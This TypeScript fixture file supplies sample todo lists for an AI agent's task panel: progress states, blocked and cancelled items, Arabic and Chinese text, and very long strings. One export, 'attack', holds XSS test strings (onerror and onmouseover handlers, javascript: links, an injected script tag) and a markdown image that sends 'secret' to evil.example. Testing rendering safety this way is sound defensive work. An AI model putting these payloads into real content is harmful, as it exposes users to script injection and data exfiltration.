import type { DraftTodo } from 'use-todo-agent/core'
import type { PanelTodo } from 'use-todo-agent/panel'

const start = Date.UTC(2026, 0, 5, 9)

function done(id: number, content: string, seconds: number): PanelTodo {
  return { id, content, status: 'completed', startedAt: start, completedAt: start + seconds * 1000 }
}

function pending(id: number, content: string): PanelTodo {
  return { id, content, status: 'pending' }
}

export const working: readonly PanelTodo[] = [
  done(1, 'Read the 200 orders', 4),
  done(2, 'Mean and median of price', 11),
  {
    id: 3,
    content: 'Find the most frequent city',
    description: 'Counting rows by city, ties broken by revenue',
    status: 'in_progress',
    startedAt: Date.now() - 3000,
  },
  pending(4, 'Work out 17% of the total'),
  pending(5, 'Write a two-sentence summary'),
]

export const corrected: readonly PanelTodo[] = [
  done(1, 'Read the 200 orders', 4),
  done(2, 'Mean and median of price', 11),
  done(3, 'Find the most frequent city', 9),
  { id: 4, content: 'Work out 17% of the total', status: 'in_progress', startedAt: Date.now() - 1000 },
  pending(5, 'Write a two-sentence summary'),
]

export const allDone: readonly PanelTodo[] = [
  ...corrected.slice(0, 3),
  done(4, 'Work out 17% of the total', 2),
  done(5, 'Write a two-sentence summary', 46),
]

export const plan: readonly PanelTodo[] = [
  pending(1, 'Collect cold-start figures for vendor A'),
  pending(2, 'Collect cold-start figures for vendor B'),
]

export const planDraft = [
  ...plan.map(({ content }) => ({ content, status: 'pending' as const })),
  { content: 'Compare both and note the method', status: 'pending' as const },
  { content: 'Write the rep', status: 'pending' as const, partial: true },
]

export const interrupted: readonly PanelTodo[] = [
  done(1, 'Collect the release notes', 38),
  { id: 2, content: 'Group changes by package', status: 'in_progress', startedAt: start },
  pending(3, 'Draft the announcement'),
]

export const exits: readonly PanelTodo[] = [
  done(1, 'Check the invoice totals', 21),
  done(2, 'Match them with the bank export', 64),
  {
    id: 3,
    content: 'Send the report',
    status: 'blocked',
    reason: 'Needs an approval that only the owner can give',
  },
  { id: 4, content: "Archive last year's folder", status: 'cancelled' },
]

export const arabic: readonly PanelTodo[] = [
  done(1, 'قراءة الطلبات المئتين', 4),
  done(2, 'حساب متوسط السعر', 64),
  {
    id: 3,
    content: 'إيجاد المدينة الأكثر تكرارًا',
    description: 'عدّ الصفوف حسب المدينة',
    status: 'in_progress',
    startedAt: Date.now() - 3000,
  },
  pending(4, 'Compare with the CSV of 2025 (orders.csv)'),
  pending(5, 'كتابة ملخص من جملتين'),
]

export const chinese: readonly PanelTodo[] = [
  done(1, '读取 200 条订单', 4),
  done(2, '计算价格的平均值和中位数', 64),
  {
    id: 3,
    content: '找出出现次数最多的城市',
    description: '按城市统计行数，次数相同时比较营收',
    status: 'in_progress',
    startedAt: Date.now() - 3000,
  },
  pending(4, '计算总额的 17%'),
  { id: 5, content: '发送报告', status: 'blocked', reason: '需要负责人批准' },
]

export const attack: readonly PanelTodo[] = [
  pending(1, '<img src=x onerror="document.title = \'owned\'">'),
  pending(2, '[click me](javascript:alert(1))'),
  pending(3, '![p](https://evil.example/?q=secret)'),
  { id: 4, content: '</todos><script>alert(1)</script> **bold** `code`', status: 'in_progress' },
  {
    id: 5,
    content: 'Send it',
    status: 'blocked',
    reason: '<b onmouseover=alert(1)>hover</b> javascript:alert(1)',
  },
]

export const long: readonly PanelTodo[] = [
  done(1, 'x'.repeat(5000), 3725),
  {
    id: 2,
    content: 'First line\nsecond line\n\n\nfourth line after two empty ones',
    description:
      'A description that goes on for so long that it has to wrap several times in a panel of this width, and then some more',
    status: 'in_progress',
    startedAt: Date.now() - 4_000_000,
  },
  pending(3, '👩‍👩‍👧‍👦🏳️‍🌈 Emoji of several code points, e\u0301 combining, and 𝒇𝒂𝒏𝒄𝒚 letters 🎉🎉🎉'),
  pending(
    4,
    'https://example.com/a/very/long/path/without/any/spaces/that/must/wrap/somewhere?query=1234567890&more=abcdefghij',
  ),
  { id: 5, content: 'A'.repeat(300), status: 'cancelled' },
  pending(6, 'Short'),
]

export function many(count: number, current: number): readonly PanelTodo[] {
  return Array.from({ length: count }, (_, index) => {
    const id = index + 1
    if (id < current) return done(id, `Check file ${id} of the export`, (id % 90) + 1)
    if (id > current) return pending(id, `Check file ${id} of the export`)
    return {
      id,
      content: `Check file ${id} of the export`,
      status: 'in_progress',
      startedAt: Date.now() - 3000,
    }
  })
}

/** Every status. The current item has no start: a wall is compared with a picture, and a clock would tick. */
export const wall: readonly PanelTodo[] = [
  done(1, 'Completed, with the time it took', 83),
  { id: 2, content: 'Completed, times unknown', status: 'completed' },
  {
    id: 3,
    content: 'In progress: the current item',
    description: 'What it is about',
    status: 'in_progress',
  },
  { id: 4, content: 'In progress too, but not the current one', status: 'in_progress' },
  { id: 5, content: 'Pending', status: 'pending' },
  {
    id: 6,
    content: 'Pending, with a description',
    status: 'pending',
    description: 'Both sheets, not just the first',
  },
  { id: 7, content: 'Blocked', status: 'blocked', reason: 'The reason that the model gave' },
  { id: 8, content: 'Cancelled', status: 'cancelled', reason: 'No longer needed' },
]

export const wallDraft: readonly DraftTodo[] = [
  { content: 'Being written, and complete', status: 'pending' },
  { content: 'Being written', status: 'pending', partial: true },
]

/** The same in Arabic. */
export const arabicWall: readonly PanelTodo[] = [
  done(1, 'قراءة الطلبات المئتين', 83),
  { id: 2, content: 'حساب متوسط السعر', status: 'completed' },
  {
    id: 3,
    content: 'إيجاد المدينة الأكثر تكرارًا',
    description: 'عدّ الصفوف حسب المدينة',
    status: 'in_progress',
  },
  { id: 4, content: 'Compare with the CSV of 2025 (orders.csv)', status: 'in_progress' },
  pending(5, 'كتابة ملخص من جملتين'),
  { id: 6, content: 'مراجعة الجدولين', status: 'pending', description: 'كلا الجدولين' },
  { id: 7, content: 'إرسال التقرير', status: 'blocked', reason: 'بانتظار موافقة المالك' },
  { id: 8, content: 'أرشفة مجلد العام الماضي', status: 'cancelled', reason: 'لم يعد مطلوبًا' },
]
